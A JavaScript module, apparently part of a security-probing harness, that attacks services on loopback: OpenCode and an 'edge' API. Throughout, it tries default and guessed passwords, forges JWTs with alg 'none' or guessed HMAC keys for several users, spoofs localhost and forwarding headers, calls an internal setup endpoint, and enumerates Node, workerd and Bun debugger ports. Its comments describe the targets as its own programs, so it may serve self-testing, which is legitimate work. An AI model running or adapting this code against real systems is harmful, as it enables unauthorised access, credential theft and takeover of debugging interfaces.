// The ports of our own programs on loopback: without a password, with guessed ones, and with those that it has found.
import { createHmac } from 'node:crypto';

/** What is asked of each: nothing of it is for somebody who has no login there. */
const paths = {
  openCode: ['/config', '/config/providers', '/session', '/global/config', '/provider/auth', '/doc'],
  edge: ['/api/control/missions', '/api/hosts', '/api/fs/list?path=/', '/api/host/state', '/api/quotas/mallory'],
};

export const ports = async (thief) => {
  const { plan } = thief;
  for (const headers of openCodeLogins(thief)) {
    for (const path of paths.openCode) await ask(thief, `${plan.openCode}${path}`, { headers });
  }
  const [first = { authorization: '' }] = openCodeLogins(thief);
  const query = encodeURIComponent(first.authorization.replace('Basic ', ''));
  await ask(thief, `${plan.openCode}/config/providers?auth_token=${query}`);
  for (const headers of edgeLogins(thief)) {
    for (const path of paths.edge) await ask(thief, `${plan.edge}${path}`, { headers });
    await ask(thief, `${plan.edge}/api/internal/setup`, { headers, method: 'POST', body: '{}' });
  }
  // Debuggers of Node, workerd and Bun, on the ports that are theirs.
  for (const port of plan.debuggers) await ask(thief, `http://127.0.0.1:${port}/json/list`);
};

/** Whoever is answered has a login that nobody gave. */
const ask = async ({ loot }, url, request = {}) => {
  loot.tried();
  try {
    const answer = await fetch(url, { redirect: 'manual', ...request });
    const text = await answer.text();
    loot.look(text, url);
    const shown = request.headers?.authorization === undefined ? 'without a login' : 'with a login that it made';
    if (answer.ok) loot.take('an answer', `${request.method ?? 'GET'} ${url} ${shown}`);
  } catch {
    // Nobody is there for it.
  }
};

const guesses = ['', 'opencode', 'password', 'admin', 'secret', 'changeme', 'undefined', 'null'];

const openCodeLogins = ({ loot }) => {
  const passwords = [loot.known['password of OpenCode'], ...guesses].filter((text) => text !== undefined);
  const names = ['opencode', 'openagent'];
  const logins = passwords.flatMap((password) => names.map((name) => ({ name, password })));
  return [
    ...logins.map(({ name, password }) => ({ authorization: `Basic ${base64(`${name}:${password}`)}` })),
    {},
    { authorization: 'Bearer null' },
  ];
};

const edgeLogins = ({ loot, plan }) => {
  const { known } = loot;
  const keys = [known['key that signs logins'], ...guesses, 'open agent'].filter((text) => text !== undefined);
  const forged = ['mallory', 'ada', 'default'].flatMap((user) => [
    ...keys.map((key) => forge({ ...plan.claims, sub: user, usr: user }, 'HS256', key)),
    forge({ ...plan.claims, sub: user, usr: user }, 'none', ''),
  ]);
  const tokens = [
    known['internal token of the edge'],
    known['login of the admin'],
    known['credential of the server'] && `${plan.host}.${known['credential of the server']}`,
    `${plan.host}.`,
    ...guesses,
    ...forged,
  ].filter((token) => token !== undefined);
  const anyone = [{}, { host: 'localhost' }, { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1' }];
  return [...anyone, ...tokens.map((token) => ({ authorization: `Bearer ${token}` }))];
};

const base64 = (text) => Buffer.from(text).toString('base64');
const base64url = (value) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** A login as the edge makes them, longer and for whomever; its own has lent it what else stands in one. */
const forge = (claims, alg, key) => {
  const now = Math.floor(Date.now() / 1000);
  const content = `${base64url({ alg, typ: 'JWT' })}.${base64url({ ...claims, iat: now, exp: now + 864_000 })}`;
  const signature = alg === 'none' ? '' : createHmac('sha256', key).update(content).digest('base64url');
  return `${content}.${signature}`;
};
